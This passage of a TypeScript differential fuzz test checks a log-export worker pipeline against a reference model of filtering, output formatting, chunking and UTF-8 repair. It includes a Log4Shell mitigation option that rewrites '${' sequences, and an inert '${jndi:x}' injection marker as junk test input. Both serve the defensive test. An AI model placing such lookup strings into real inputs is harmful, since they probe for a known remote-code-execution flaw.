  if (typeof x === 'number') return v instanceof JsonNumber && compareDecimal(decimalOf(v.text), decimalOf(String(x))) === 0;
  return v === x;
}

function leafVerdict(record: { [key: string]: Json }, leaf: FilterLeaf): Verdict {
  const v = Object.hasOwn(record, leaf.key) ? record[leaf.key]! : null;
  const negated = leaf.operator.startsWith('!');
  const op = negated ? leaf.operator.slice(1) : leaf.operator;
  const x = leaf.value;
  let verdict: Verdict;
  const yes = (b: boolean): Verdict => (b ? 'keep' : 'reject');
  if (op === 'eq') verdict = v === null ? yes(x === null) : yes(equals(v, x));
  else if (v === null) verdict = 'reject';
  else if (op === 'lt' || op === 'leq' || op === 'gt' || op === 'geq') {
    if (!(v instanceof JsonNumber)) verdict = 'wrong_type';
    else {
      const c = compareDecimal(decimalOf(v.text), decimalOf(String(x)));
      verdict = yes(op === 'lt' ? c < 0 : op === 'leq' ? c <= 0 : op === 'gt' ? c > 0 : c >= 0);
    }
  } else if (op === 'startsWith' || op === 'endsWith') {
    verdict = typeof v !== 'string' ? 'wrong_type' : yes(op === 'startsWith' ? v.startsWith(String(x)) : v.endsWith(String(x)));
  } else if (op === 'contains') {
    verdict = typeof v === 'string' ? yes(v.includes(String(x))) : Array.isArray(v) ? yes(v.some((e) => equals(e, x))) : 'wrong_type';
  } else if (op === 'in') {
    const list = Array.isArray(x) ? x : [x];
    const member = (e: Json): boolean => list.some((item) => equals(e, item));
    verdict = isObject(v) ? 'wrong_type' : Array.isArray(v) ? yes(v.some(member)) : yes(member(v));
  } else {
    throw new Error(`the reference does not know operator ${leaf.operator}`);
  }
  if (negated && verdict !== 'wrong_type') verdict = verdict === 'keep' ? 'reject' : 'keep';
  return verdict;
}

function filterVerdict(record: { [key: string]: Json }, node: FilterNode): Verdict {
  if ('and' in node || 'or' in node) {
    const pass: Verdict = 'and' in node ? 'keep' : 'reject';
    for (const child of 'and' in node ? node.and : node.or) {
      const v = filterVerdict(record, child);
      if (v !== pass) return v;
    }
    return pass;
  }
  return leafVerdict(record, node);
}

function filterKeys(node: FilterNode): string[] {
  if ('and' in node) return node.and.flatMap(filterKeys);
  if ('or' in node) return node.or.flatMap(filterKeys);
  return [node.key];
}

type Outcome = 'out' | 'filtered' | 'wrong_type' | 'invalid_json';

interface Expected {
  outcomes: Outcome[];
  /** Records (not invalid_json) whose tracked values held invalid UTF-8. */
  invalidUtf8: number;
  /** Each output record's text (without delimiters). */
  records: string[];
  chunks: string[];
  minEventTimeNs: string | null;
  maxEventTimeNs: string | null;
  /** Tallies for the "not vacuous" checks. */
  tally: Record<string, number>;
}

interface Case {
  gen: GenJob;
  records: GenRecord[];
  chunkBytes: number;
  framed: boolean;
  /** Bytes before the task's first record in the shared buffer (BatchTask.startByte), and after its last. */
  before: string;
  after: string;
}

function expect(c: Case): Expected {
  const { options, template } = c.gen;
  const where = c.gen.job.filter?.where ?? null;
  const selected = new Set(options.field_names);
  const outputFields = template === null ? options.field_names : template.flatMap((p) => ('field' in p && selected.has(p.field) ? [p.field] : []));
  const tracked = new Set([...outputFields, ...(where === null ? [] : filterKeys(where)), EVENT_FIELD]);
  /** The fields whose raw text the reference reads. */
  const used = new Set([...outputFields, EVENT_FIELD]);
  const tally: Record<string, number> = {};
  const count = (what: string, n = 1): void => {
    tally[what] = (tally[what] ?? 0) + n;
  };

  const mapValue = (field: string, raw: string): string => {
    let text = TIMESTAMP_FIELDS.has(field) ? formatTimestamp(raw, options.timestamp_format) : raw;
    if (TIMESTAMP_FIELDS.has(field)) count(text === raw ? 'timestamp kept' : /^"/.test(raw) ? 'timestamp string converted' : 'timestamp integer converted');
    if (options['CVE-2021-44228']) {
      const rewritten = text.replaceAll('${', 'x{');
      if (rewritten !== text) count('CVE rewrite');
      text = rewritten;
    }
    return text;
  };

  const outcomes: Outcome[] = [];
  const records: string[] = [];
  let invalidUtf8Records = 0;
  let min: bigint | null = null;
  let max: bigint | null = null;
  for (const r of c.records) {
    // Validity: a structural break always rejects; invalid string content only in a tracked value.
    if (r.parseText === null) {
      assert.ok(!isJsonObject(r.text), `generator: "${r.structural}" left a JSON object: ${r.text}`);
      outcomes.push('invalid_json');
      count('invalid: structural');
      continue;
    }
    if (r.unchecked !== null) {
      assert.throws(() => JSON.parse(r.text), `generator: unchecked content is valid JSON: ${r.text}`);
      if (r.unchecked.key !== null && tracked.has(r.unchecked.key)) {
        outcomes.push('invalid_json');
        count('invalid: bad string in a tracked value');
        continue;
      }
      count('accepted: bad string where unchecked');
    }
    // Invalid UTF-8 in a tracked value is replaced with U+FFFD before the filter and the output
    // (workers/utf8.ts); the reference reads every text so repaired (untracked ones are never read).
    const parsed = parseExact(replaceInvalidUtf8(r.parseText));
    assert.ok(isObject(parsed), `generator: not an object: ${r.parseText}`);
    // The raw text of each field: its last member (duplicate keys: the last one wins).
    const raw = new Map<string, string>();
    const last = new Map<string, string>();
    for (const m of r.members) {
      if (m.key === null || m === r.unchecked) continue;
      if (used.has(m.key)) raw.set(m.key, replaceInvalidUtf8(m.valueText));
      if (tracked.has(m.key)) last.set(m.key, m.valueText);
    }
    if ([...last.values()].some(hasInvalidUtf8)) {
      invalidUtf8Records++;
      count('invalid UTF-8 replaced');
    }
    for (const [key, text] of raw) assert.ok(sameJson(parseExact(text), parsed[key]!), `generator: raw text of ${key} is ${text}, parsed ${JSON.stringify(parsed[key])}`);
    for (const key of used) assert.equal(raw.has(key), Object.hasOwn(parsed, key), `generator: ${key} present?`);

    const verdict = where === null ? 'keep' : filterVerdict(parsed, where);
    if (verdict !== 'keep') {
      outcomes.push(verdict === 'reject' ? 'filtered' : 'wrong_type');
      continue;
    }
    outcomes.push('out');
    if (outputFields.some((f) => !raw.has(f))) count('output field missing');
    if (r.duplicated) count('duplicate keys');
    if (r.escapedKey) count('escaped key');
    let text: string;
    if (template !== null) {
      // Logpush: a placeholder whose field is not in field_names prints null, like a missing one.
      const value = (field: string) => (selected.has(field) && raw.has(field) ? mapValue(field, raw.get(field)!) : 'null');
      text = options.record_prefix + template.map((p) => ('literal' in p ? p.literal : value(p.field))).join('') + options.record_suffix;
    } else if (options.output_type === 'ndjson') {
      const pairs = options.field_names.filter((f) => raw.has(f)).map((f) => `${JSON.stringify(f)}:${mapValue(f, raw.get(f)!)}`);
      text = options.record_prefix + pairs.join(options.field_delimiter) + options.record_suffix;
    } else {
      const cells = options.field_names.map((f) => (raw.has(f) ? mapValue(f, raw.get(f)!) : ''));
      text = options.record_prefix + cells.join(options.field_delimiter) + options.record_suffix;
    }
    records.push(text);
    const event = raw.has(EVENT_FIELD) ? eventNs(raw.get(EVENT_FIELD)!) : null;
    if (event !== null) {
      if (min === null || event < min) min = event;
      if (max === null || event > max) max = event;
    }
  }

  // Framing and chunks (pipeline-worker.ts): batch_prefix before the first record, the record
  // delimiter between records, batch_suffix after the last;
  // a chunk is cut after any record that brings it to chunkBytes. No records, no output.
  const delimiter = options.record_delimiter;
  const chunks: string[] = [];
  let open = '';
  records.forEach((text, i) => {
    open += (i === 0 ? (c.framed ? options.batch_prefix : '') : delimiter) + text;
    if (c.chunkBytes > 0 && Buffer.byteLength(open) >= c.chunkBytes) {
      chunks.push(open);
      open = '';
    }
  });
  if (records.length > 0) open += c.framed ? options.batch_suffix : '';
  if (open !== '') chunks.push(open);
  return { outcomes, invalidUtf8: invalidUtf8Records, records, chunks, minEventTimeNs: min?.toString() ?? null, maxEventTimeNs: max?.toString() ?? null, tally };
}

// ---------------------------------------------------------------------------------------------
// Running a case and comparing.

function packTask(c: Case): BatchTask {
  const pieces = [c.before, ...c.records.map((r) => r.text), c.after].map(utf8Of);
  const data = new Uint8Array(new SharedArrayBuffer(pieces.reduce((n, b) => n + b.length, 0)));
  const ends = new Uint32Array(Math.max(1, c.records.length));
  let pos = 0;
  pieces.forEach((b, i) => {
    data.set(b, pos);
    pos += b.length;
    if (i >= 1 && i <= c.records.length) ends[i - 1] = pos;
  });
  return {
    job: c.gen.job,
    data: data.buffer as SharedArrayBuffer,
    ends: ends.subarray(0, c.records.length),
    count: c.records.length,
    sampleSeed: 1,
    chunkBytes: c.chunkBytes,
    reportDrops: true,
    startByte: Buffer.byteLength(c.before),
    framed: c.framed,
  };
}

/** Differences between the expected and the actual result, as lines (empty when they agree). */
function differences(c: Case, want: Expected, got: BatchResult): string[] {
  const diffs: string[] = [];
  const same = (what: string, expected: unknown, actual: unknown): void => {
    if (!sameValue(expected, actual)) diffs.push(`${what}: expected ${JSON.stringify(expected)}, got ${JSON.stringify(actual)}`);
  };
  const n = (o: Outcome): number => want.outcomes.filter((x) => x === o).length;
  const wantText = want.chunks.join('');
  const gotChunks = got.chunks.map((chunk) => Buffer.from(chunk.buffer, chunk.byteOffset, chunk.byteLength));
  const gotBytes = Buffer.concat(gotChunks);
  const wantBytes = Buffer.from(wantText, 'utf8');
  if (!gotBytes.equals(wantBytes)) {
    let at = 0;
    while (at < wantBytes.length && wantBytes[at] === gotBytes[at]) at++;
    const near = (b: Buffer): string => JSON.stringify(b.subarray(Math.max(0, at - 30), at + 30).toString('utf8'));
    diffs.push(`output differs at byte ${at}: expected …${near(wantBytes)}…, actual …${near(gotBytes)}…\n` +
      `      whole expected ${JSON.stringify(wantText)}\n      whole actual   ${JSON.stringify(gotBytes.toString('utf8'))}`);
  } else {
    same('chunk sizes (bytes)', want.chunks.map((t) => Buffer.byteLength(t)), gotChunks.map((b) => b.length));
  }
  same('recordsIn', c.records.length, got.recordsIn);
  same('recordsOut', n('out'), got.recordsOut);
  same('filtered', n('filtered'), got.filtered);
  same('sampled', 0, got.sampled);
  same('invalidUtf8', want.invalidUtf8, got.invalidUtf8);
  same('dropped', { invalid_json: n('invalid_json'), wrong_type: n('wrong_type') }, got.dropped);
  same('droppedRecords', want.outcomes.flatMap((o, index) => (o === 'invalid_json' || o === 'wrong_type' ? [`${index}:${o}`] : [])),
    (got.droppedRecords ?? []).map((d) => `${d.index}:${d.reason}`));
  same('minEventTimeNs', want.minEventTimeNs, got.minEventTimeNs);
  same('maxEventTimeNs', want.maxEventTimeNs, got.maxEventTimeNs);
  same('bytesEncoded', Buffer.byteLength(wantText), got.bytesEncoded);
  const internal = got.dropSamples.filter((s) => s.startsWith('ERR_INTERNAL'));
  if (internal.length > 0) diffs.push(`internal errors: ${internal.join(' | ')}`);
  return diffs;
}

function sameValue(a: unknown, b: unknown): boolean {
  return JSON.stringify(a) === JSON.stringify(b);
}

function runCase(c: Case): { want: Expected; diffs: string[] } {
  const want = expect(c);
  const got = processBatch(compileJob(c.gen.job), packTask(c));
  return { want, diffs: differences(c, want, got) };
}

function describeCase(c: Case, want: Expected): string {
  const { options } = c.gen;
  return [
    `  output_options: ${JSON.stringify(options)}`,
    `  filter: ${JSON.stringify(c.gen.job.filter)}`,
    `  chunkBytes: ${c.chunkBytes}, framed: ${c.framed}, startByte: ${Buffer.byteLength(c.before)}, bytes after: ${JSON.stringify(c.after)}`,
    '  records (expected outcome):',
    ...c.records.map((r, i) => `    [${i}] ${want.outcomes[i]}: ${JSON.stringify(r.text)}`),
  ].join('\n');
}

/** A record without the members (and whitespace, and key escapes) a failing one-record case does not need. */
function shrinkRecord(c: Case, r: GenRecord): GenRecord {
  if (r.structural !== null) return r;
  const fails = (candidate: GenRecord): boolean => runCase({ ...c, records: [candidate] }).diffs.length > 0;
  const rebuilt = (members: Member[], unchecked: Member | null, lead: string, trail: string): GenRecord => ({
    ...r, members, lead, trail,
    unchecked: unchecked !== null && members.includes(unchecked) ? unchecked : null,
    text: renderRecord(members, lead, trail, false),
    parseText: renderRecord(members, lead, trail, true),
  });
  let best = r;
  for (let i = best.members.length - 1; i >= 0; i--) {
    const candidate = rebuilt(best.members.filter((_, j) => j !== i), best.unchecked, best.lead, best.trail);
    if (fails(candidate)) best = candidate;
  }
  let unchecked: Member | null = null;
  const plain = best.members.map((m): Member => {
    if (m === best.unchecked) return (unchecked = { ...m, spaces: ['', '', '', ''] });
    const keyText = m.key === null ? m.keyText : JSON.stringify(m.key);
    return { ...m, keyText, parseKeyText: keyText, spaces: ['', '', '', ''] };
  });
  const candidate = rebuilt(plain, unchecked, '', '');
  return fails(candidate) ? candidate : best;
}

/** The mismatch message: the case, the differences, and the smallest single-record repro if there is one. */
function mismatchReport(index: number, c: Case, want: Expected, diffs: string[]): string {
  let report = `case ${index} (seed ${SEED}):\n${describeCase(c, want)}\n  differences:\n${diffs.map((d) => `    ${d}`).join('\n')}`;
  const quiet: Case = { ...c, chunkBytes: 0, before: '', after: '', framed: true };
  for (const r of c.records) {
    if (runCase({ ...quiet, records: [r] }).diffs.length === 0) continue;
    const alone: Case = { ...quiet, records: [shrinkRecord(quiet, r)] };
    const result = runCase(alone);
    report += `\n  minimal repro (one record, shrunk):\n${describeCase(alone, result.want)}\n${result.diffs.map((d) => `    ${d}`).join('\n')}`;
    break;
  }
  return report;
}

function generateCase(recordCount: number, chunkBytes: number, big = false): Case {
  bigValues = big;
  caseSecond = chance(0.9) ? int(1_600_000_000, 1_800_000_000) : int(-100_000, 100_000);
  const gen = generateJob(big);
  const presence = big ? 1 : pick([0.3, 0.7, 0.9, 1]);
  const records = Array.from({ length: recordCount }, () => generateRecord(presence));
  const junk = ['', '{"RayID":"before"}', '{"a":', '${jndi:x}', 'ü'];
  return {
    gen,
    records,
    chunkBytes,
    framed: chance(0.9),
    before: chance(0.15) ? pick(junk) : '',
    after: chance(0.15) ? pick(junk) : '',
  };
}

// ---------------------------------------------------------------------------------------------

describe('worker pipeline vs reference (seeded differential fuzz)', () => {
  it('the reference knows the dataset and the calendar', () => {
    assert.deepEqual(new Set(CATALOG.timestampFields), TIMESTAMP_FIELDS);
    assert.equal(eventTimeField('http_requests'), EVENT_FIELD);
    for (const name of [...POOL_NAMES, 'CacheCacheStatus', 'ClientASN', 'EdgeColoCode', 'OriginIP', 'WorkerScriptName']) {
      assert.ok(CATALOG.fieldsByName.has(name), name);
    }
    // The reference's calendar agrees with Date across years 0–9999.
    const check = createPrng(7);
    for (let i = 0; i < 3000; i++) {
      const days = Math.floor(unit(check) * 3_652_425) - 719_528;
      const [y, m, d] = civilFromDays(days);
      const iso = new Date(days * 86_400_000).toISOString().slice(0, 10);
      assert.equal(`${pad(y, 4)}-${pad(m, 2)}-${pad(d, 2)}`, iso, `day ${days}`);
      assert.equal(daysFromCivil(y, m, d), days);
    }
    assert.equal(formatTimestamp('1506702504433000200', 'rfc3339'), '"2017-09-29T16:28:24Z"');
    assert.equal(formatTimestamp('"2017-09-29T18:28:24.4330002+02:00"', 'unixnano'), '1506702504433000200');
    assert.equal(formatTimestamp('-1', 'unix'), '-1');
  });

  it(`agrees on ${SMALL_CASES} small batches and ${LARGE_CASES} large chunked ones`, () => {
    const failures: string[] = [];
    const summaries: string[] = [];
    let failed = 0;
    const tally: Record<string, number> = {};
    const count = (what: string, n = 1): void => {
      tally[what] = (tally[what] ?? 0) + n;
    };
    for (let i = 0; i < SMALL_CASES + LARGE_CASES; i++) {
      const c = i < SMALL_CASES ? generateCase(int(1, 6), chance(0.1) ? int(1, 300) : 0)
        : i < SMALL_CASES + 2 ? generateCase(int(60, 80), pick([0, 200_000]), true) // output over 1 MiB
        : generateCase(int(150, 400), pick([1, 64, 300, 2000, 5000]));
      const { want, diffs } = runCase(c);
      if (diffs.length > 0) {
        failed++;
        summaries.push(`  case ${i}: ${diffs[0]!.split('\n')[0]!.slice(0, 160)}`);
        if (failures.length < 3) failures.push(mismatchReport(i, c, want, diffs));
      }
      const { options, template } = c.gen;
      count(template !== null ? 'template' : options.output_type);
      if (template?.some((p) => 'field' in p && !options.field_names.includes(p.field))) count('template field not in field_names');
      count(`timestamp_format ${options.timestamp_format}`);
      count(options['CVE-2021-44228'] ? 'CVE on' : 'CVE off');
      if (c.gen.job.filter !== null) count('filter');
      if (!c.framed) count('unframed');
      if (c.before !== '') count('startByte > 0');
      if (want.records.length === 0) count('no output');
      if (want.chunks.length >= 3) count('3+ chunks');
      if (Buffer.byteLength(want.chunks.join('')) > 1 << 20) count('output over 1 MiB');
      for (const o of want.outcomes) count(o);
      for (const [what, n] of Object.entries(want.tally)) count(what, n);
    }
    if (failed > 0) {
      assert.fail(`${failed} of ${SMALL_CASES + LARGE_CASES} cases disagree with the reference:\n${summaries.slice(0, 20).join('\n')}\n\n` +
        `the first ${failures.length} in full:\n\n${failures.join('\n\n')}`);
    }

    // Not vacuous: every option and every kind of record occurred often enough to matter.
    const atLeast: Record<string, number> = {
      ndjson: 200, csv: 200, template: 100, 'template field not in field_names': 50, 'timestamp_format unixnano': 150, 'timestamp_format unix': 150,
      'timestamp_format rfc3339': 150, 'CVE on': 250, 'CVE off': 250, filter: 150, unframed: 50, 'startByte > 0': 50,
      'no output': 50, '3+ chunks': 10, 'output over 1 MiB': 1, out: 2000, filtered: 300, wrong_type: 30,
      invalid_json: 200, 'invalid: structural': 200, 'invalid: bad string in a tracked value': 15,
      'accepted: bad string where unchecked': 200, 'output field missing': 1000, 'duplicate keys': 250, 'escaped key': 200,
      'CVE rewrite': 400, 'invalid UTF-8 replaced': 200, 'timestamp kept': 200, 'timestamp string converted': 150, 'timestamp integer converted': 150,
    };
    if (process.env.SHOW_TALLY) console.log(JSON.stringify(tally, null, 1));
    tally['deep nesting (generated)'] = deepValues;
    atLeast['deep nesting (generated)'] = 20;
    const thin = Object.entries(atLeast).filter(([what, min]) => (tally[what] ?? 0) < min);
    assert.deepEqual(thin.map(([what, min]) => `${what}: ${tally[what] ?? 0} < ${min}`), [], `tallies: ${JSON.stringify(tally)}`);
  });
});
